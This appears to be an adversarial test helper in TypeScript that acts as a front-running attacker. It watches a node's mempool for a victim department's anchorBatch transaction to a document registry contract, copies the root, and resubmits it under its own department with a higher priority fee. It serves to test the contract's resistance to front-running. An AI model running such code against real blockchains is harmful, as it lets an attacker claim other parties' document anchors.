/**
 * The front-running attacker, as its own process (front-running.test.ts starts it): it watches a
 * node's mempool (`txpool_content`) for the victim department's `anchorBatch`, decodes the root and
 * sends `anchorBatch(<own department>, type, root, count)` with a higher priority fee, so that a
 * miner orders it first. It prints one JSON line `{"victimTx", "frontRunTx", "root", "docType", "count"}`
 * and exits 0; exit 3 when no victim transaction shows up in time.
 *
 * node test/adversarial/front-runner.ts <rpcUrl> <documentRegistry> <attackerPrivateKey> <ownDepartment> <victimDepartment> [timeoutMs]
 */
import { Interface, JsonRpcProvider, Wallet } from "ethers";
import { toBytes32String } from "../../services/adapters/chain/chain-codec.ts";
import { loadArtifact } from "../../services/adapters/chain/contract-artifacts.ts";

interface PoolTx {
  hash: string;
  to: string | null;
  input: string;
  gasPrice?: string;
  maxPriorityFeePerGas?: string;
}

const [rpcUrl, registry, attackerKey, ownDepartment, victimDepartment, timeout] = process.argv.slice(2);
if (!rpcUrl || !registry || !attackerKey || !ownDepartment || !victimDepartment) {
  console.error("usage: front-runner.ts <rpcUrl> <documentRegistry> <attackerPrivateKey> <ownDepartment> <victimDepartment> [timeoutMs]");
  process.exit(2);
}
const abi = new Interface(loadArtifact("DocumentRegistry").abi);
const anchorBatch = abi.getFunction("anchorBatch");
if (!anchorBatch) throw new Error("the DocumentRegistry ABI has no anchorBatch");
const victim = toBytes32String(victimDepartment, "department").toLowerCase();
const provider = new JsonRpcProvider(rpcUrl, undefined, { staticNetwork: true, cacheTimeout: -1 });
const attacker = new Wallet(attackerKey, provider);
const deadline = Date.now() + Number(timeout ?? 30_000);

function victimAnchoring(pool: { pending?: Record<string, Record<string, PoolTx>> }): PoolTx | undefined {
  for (const byNonce of Object.values(pool.pending ?? {})) {
    for (const tx of Object.values(byNonce)) {
      if (tx.to?.toLowerCase() !== registry?.toLowerCase() || !tx.input.startsWith(anchorBatch?.selector ?? "-")) continue;
      const [department] = abi.decodeFunctionData("anchorBatch", tx.input);
      if (String(department).toLowerCase() === victim) return tx;
    }
  }
  return undefined;
}

for (;;) {
  const found = victimAnchoring(await provider.send("txpool_content", []));
  if (found) {
    const [, docType, root, count] = abi.decodeFunctionData("anchorBatch", found.input);
    // The victim's tip (legacy gas price on a zero-base-fee chain, or its priority fee), outbid.
    const victimTip = BigInt(found.maxPriorityFeePerGas ?? found.gasPrice ?? "0");
    const tip = victimTip * 2n + 1_000_000_000n;
    const sent = await attacker.sendTransaction({
      to: registry,
      data: abi.encodeFunctionData("anchorBatch", [toBytes32String(ownDepartment, "department"), docType, root, count]),
      gasLimit: 300_000,
      maxPriorityFeePerGas: tip,
      maxFeePerGas: tip,
    });
    console.log(JSON.stringify({ victimTx: found.hash, frontRunTx: sent.hash, root: String(root), docType: String(docType), count: Number(count) }));
    provider.destroy();
    process.exit(0);
  }
  if (Date.now() > deadline) {
    console.error("no anchorBatch of the victim department appeared in the mempool");
    provider.destroy();
    process.exit(3);
  }
  await new Promise((resolve) => setTimeout(resolve, 20));
}
